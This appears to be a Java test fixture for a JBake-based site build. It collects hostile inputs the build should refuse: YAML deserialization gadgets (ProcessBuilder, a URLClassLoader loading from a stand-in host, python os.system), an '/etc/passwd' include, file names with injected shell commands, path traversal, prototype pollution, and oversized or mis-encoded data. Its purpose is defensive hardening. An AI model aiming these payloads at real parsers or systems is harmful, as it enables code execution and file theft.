package com.runthismodel.bake;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/** Whole files that attack what reads them, by the name of the file and what is wrong with it. */
final class HostileFiles {
    private static final String CARD = "models/acme/evil.yaml";
    private static final String HUB = "hub/acme/Evil.json";
    static final String PAGE = "pages/evil.md";
    static final String HEADER = "title=Evil\ndescription=Evil.\n~~~~~~\n\n";

    final Map<String, byte[]> refused = new LinkedHashMap<>();
    final Map<String, byte[]> inert = new LinkedHashMap<>();

    HostileFiles() {
        yaml();
        json();
        encodings();
        names();
        headers();
        markdown();
    }

    private void yaml() {
        for (String text : List.of(
                "a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]\nname: *c",
                "name: &x y\nvendor: *x",
                "name: *nowhere",
                "<<: {name: x}",
                "name: !!java.lang.ProcessBuilder [[touch, pwned]]",
                "name: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://pwned.example/\"]]]]",
                "name: !!python/object/apply:os.system [touch pwned]",
                "name: !!binary cHduZWQ=",
                "name: !include /etc/passwd",
                "!<tag:yaml.org,2002:str> name: x",
                "%TAG ! tag:pwned.example,2026:\n---\nname: !x y",
                "%YAML 9.9\n---\nname: x",
                "name: x\n---\nname: y",
                "name: x\nname: y",
                "? name\n: x",
                "? [a, b]\n: x",
                "? {a: b}\n: x",
                "name: [x",
                "name: \"x",
                "\tname: x",
                "name: |9\n x",
                "name: >-\n  " + "x".repeat(2_000_000),
                "x".repeat(100_000) + ": y",
                "name: " + "[".repeat(100_000),
                "name: " + "{a: ".repeat(50_000),
                "- ".repeat(50_000) + "x",
                "name: 1" + "0".repeat(1_000_000),
                "name: 1e999999999",
                "name: .inf",
                "name: .nan",
                "name: ~",
                "name: yes",
                "released: 2026-02-30",
                "released: 999999999-01-01",
                "just text",
                "[]",
                "",
                "# only a remark")) refused.put(CARD + " " + refused.size(), bytes(text));
    }

    private void json() {
        for (String text : List.of(
                "[".repeat(100_000),
                "{\"a\":".repeat(100_000),
                "{\"id\":\"acme/Evil\",\"id\":\"acme/Evil\"}",
                "{\"id\":\"acme/Evil\",\"downloads\":1e1000000000}",
                "{\"id\":\"acme/Evil\",\"downloads\":1e-1000000000}",
                "{\"id\":\"acme/Evil\",\"downloads\":" + "9".repeat(1_000_000) + "}",
                "{\"id\":\"acme/Evil\",\"downloads\":NaN}",
                "{\"id\":\"acme/Evil\",\"config\":{\"num_hidden_layers\":2147483647}}",
                "{\"id\":\"acme/Evil\",\"__proto__\":{\"pwned\":1}}",
                "{\"id\":\"acme/Evil\",\"pwned\":\"\\ud800\"}",
                "{\"id\":\"acme/Evil\",}",
                "{\"id\":\"acme/Evil\"} x",
                "{\"id\":\"acme/Evil\"}{}",
                "/* */{\"id\":\"acme/Evil\"}",
                "{'id':'acme/Evil'}",
                "{\"id\":\"acme/../Evil\"}",
                "{\"id\":\"acme/Evil\",\"siblings\":[{\"rfilename\":\"../../evil.gguf\",\"size\":1}]}",
                "{\"id\":\"acme/Evil\",\"siblings\":[{\"rfilename\":\"x$(touch pwned).gguf\",\"size\":1}]}",
                "{\"" + "x".repeat(1_000_000) + "\":1}",
                "null",
                "")) refused.put(HUB + " " + refused.size(), bytes(text));
    }

    private void encodings() {
        byte[] huge = new byte[100_000_000];
        Arrays.fill(huge, (byte) 'a');
        byte[] lines = new byte[100_000_000];
        Arrays.fill(lines, (byte) '\n');
        int number = 0;
        for (String file : List.of(CARD, HUB, PAGE)) {
            String text = file.equals(PAGE) ? HEADER + "x\u00E9" : "{\"name\": \"\u00E9\"}";
            for (byte[] bytes : List.of(
                    huge,
                    lines,
                    text.getBytes(UTF_16),
                    text.getBytes(ISO_8859_1),
                    new byte[] {(byte) 0xC0, (byte) 0xAF, 'x'},
                    new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                    bytes("\uFEFF" + text),
                    bytes(text + "\0"),
                    new byte[5_000])) refused.put(file + " bytes" + number++, bytes);
        }
    }

    private void names() {
        for (String name : List.of(
                "models/acme/evil.yml",
                "models/acme/Evil.yaml",
                "models/acme/e vil.yaml",
                "models/acme/e'vil;touch pwned.yaml",
                "models/acme/$(touch pwned).yaml",
                "models/acme/-evil.yaml",
                "models/acme/evil..x.yaml",
                "models/acme/" + "e".repeat(200) + ".yaml",
                "models/acme/\u202Elive.yaml",
                "models/evil.yaml",
                "models/acme/deep/evil.yaml",
                "hub/acme/evil.html",
                "hub/Evil.json",
                "devices/evil.js",
                "runtimes/../evil.js",
                "evil.html",
                "_headers",
                "assets/evil.js",
                "pages/evil.html",
                "pages/Evil.md",
                "pages/evil.adoc",
                "pages/evil.md.ftl",
                "pages/jbake.properties",
                "pages/sub/evil.md")) refused.put(name, bytes("x: 1\n"));
    }

    /** What JBake takes from a header of its own. */
    private void headers() {
        for (String line : List.of(
                "type=post",
                "status=draft",
                "template=x",
                "tags=a",
                "date=2026-01-01",
                "uri=../../evil",
                "og={\"a\":1}",
                "=x",
                "<script>"))
            refused.put(PAGE + " " + line, bytes("title=E\ndescription=E.\n" + line + "\n~~~~~~\n\nx\n"));
    }

    private void markdown() {
        for (String name : List.of("index", "404", "models", "con"))
            refused.put("pages/" + name + ".md", bytes(HEADER + "x\n"));
        refused.put(PAGE + " long line", bytes(HEADER + "> ".repeat(5_000)));
        for (String piece : List.of("[x](y \"", "[^1]", "<b>"))
            refused.put(
                    PAGE + " long paragraph of " + piece,
                    bytes(HEADER + line(piece).repeat(1000)));
        for (String piece : List.of(
                "> ",
                "- ",
                "* ",
                "[",
                "![",
                "](",
                "*",
                "_",
                "`",
                "~",
                "<div>",
                "<b>",
                "&",
                "|",
                "a|",
                "# ",
                "\\",
                "<!--",
                "[^1]",
                "<a href=\"",
                "[x](y \"")) inert.put(PAGE + " many " + piece, many(piece));
        inert.put(
                PAGE + " wide table",
                bytes(HEADER + "|a".repeat(450) + "|\n" + "|-".repeat(450) + "|\n" + "|b".repeat(450) + "|\n"));
        inert.put(
                PAGE + " many references",
                bytes(HEADER + ("[a]: https://x.example\n".repeat(400) + "\n").repeat(12) + "[a]".repeat(300)));
        inert.put(
                PAGE + " deep list",
                bytes(HEADER
                        + Stream.iterate("- x", line -> "  " + line).limit(300).reduce("", (a, b) -> a + b + "\n\n")));
    }

    /** As often as a line holds it, as many lines as a paragraph holds, ten times. */
    private static byte[] many(String piece) {
        return bytes(HEADER + (line(piece).repeat(10) + "\n").repeat(10));
    }

    private static String line(String piece) {
        return piece.repeat(990 / piece.length()) + "pwned\n";
    }

    static byte[] bytes(String text) {
        return text.getBytes(UTF_8);
    }
}
